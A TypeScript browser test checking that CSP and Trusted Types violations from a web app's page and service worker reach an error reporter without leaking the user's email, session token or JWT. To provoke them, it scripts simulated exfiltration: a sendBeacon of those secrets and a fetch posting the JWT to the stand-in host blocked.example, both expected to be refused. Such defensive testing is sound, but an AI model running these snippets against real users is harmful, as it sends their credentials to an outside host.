/**
 * Policy violations reach the error reporter's security endpoint (the header policies'
 * `report-uri`), from the page and from the worker that holds the session, and carry none of the
 * holder's secrets: an injected script's text is never sampled, and a blocked call's headers and
 * body are never reported.
 */
import { expect, it } from 'vitest'
import { browserSuite } from './support/browser-suite.ts'
import { latestJwt, readEngineState } from './support/stack.ts'
import { appUrl, sinkUrl } from './support/test-stack.ts'
import { scaled } from './support/deadline.ts'

interface Violation {
  documentURL: string
  blockedURL: string
  effectiveDirective: string
  sample?: string
}

interface SinkReport {
  raw: string
  items: { type: string; payload: unknown }[]
}

const suite = browserSuite(async () => {
  await fetch(`${sinkUrl}/_dev/reports`, { method: 'DELETE' })
})

/** The security reports at the sink: each violation, and every report's body as it came. */
async function securityReports(): Promise<{ violations: Violation[]; raw: string }> {
  const response = await fetch(`${sinkUrl}/_dev/reports`)
  const { reports } = (await response.json()) as { reports: SinkReport[] }
  const security = reports.filter((report) => report.items.some((item) => item.type === 'security'))
  return {
    violations: security.flatMap((report) => report.items.map((item) => item.payload as Violation)),
    raw: security.map((report) => report.raw).join('\n'),
  }
}

/** Every way a secret could be written into a report: as it is, percent-encoded, base64. */
const encodings = (secret: string) => [
  secret,
  encodeURIComponent(secret),
  Buffer.from(secret).toString('base64'),
]

it('a violation in the page and one in the worker reach the reporter, with no secret in them', async () => {
  const { context, page, email } = await suite.signedIn()
  const state = await readEngineState(page)
  const session = state?.session as { sessionToken: string; userId: string }
  const jwt = await latestJwt(session.userId)
  const secrets = [email, session.sessionToken, jwt]

  // In the page, as an injected script would: script text holding the secrets, which Trusted
  // Types refuse before it can run (unreported: such a report would carry what the script wrote),
  // and an image from an origin the policy does not allow.
  const refused = await page.evaluate(
    ({ secrets }) => {
      const script = document.createElement('script')
      let refusal = 'none'
      try {
        script.textContent = `navigator.sendBeacon('/', ${JSON.stringify(secrets.join(' '))})`
        document.body.append(script)
      } catch (error) {
        refusal = (error as Error).name
      }
      const image = new Image()
      image.src = 'https://blocked.example/pixel.png'
      document.body.append(image)
      return refusal
    },
    { secrets },
  )
  expect(refused, 'the script text refused by Trusted Types').toBe('TypeError')
  // In the worker: a call to an origin its policy does not allow, the secrets in its headers
  // and body.
  const [worker] = context.serviceWorkers()
  expect(worker?.url(), 'the app’s service worker').toBe(appUrl + '/sw.js')
  const outcome = await worker?.evaluate(
    ({ jwt, body }) =>
      fetch('https://blocked.example/collect', {
        method: 'POST',
        headers: { authorization: `Bearer ${jwt}` },
        body,
      }).then(
        () => 'sent',
        () => 'refused',
      ),
    { jwt, body: secrets.join(' ') },
  )
  expect(outcome).toBe('refused')

  await expect
    .poll(
      async () =>
        (await securityReports()).violations
          .map((violation) => `${violation.effectiveDirective} on ${violation.documentURL}`)
          .sort(),
      { message: 'a report of each violation at the sink', timeout: scaled(20_000) },
    )
    .toEqual([`connect-src on ${appUrl}/sw.js`, `img-src on ${appUrl}/`])

  const { violations, raw } = await securityReports()
  expect(violations.map((violation) => violation.blockedURL).sort()).toEqual([
    'https://blocked.example/collect',
    'https://blocked.example/pixel.png',
  ])
  for (const violation of violations) expect(violation.sample).toBeUndefined()
  for (const secret of secrets) {
    for (const written of encodings(secret)) expect(raw).not.toContain(written)
  }
})
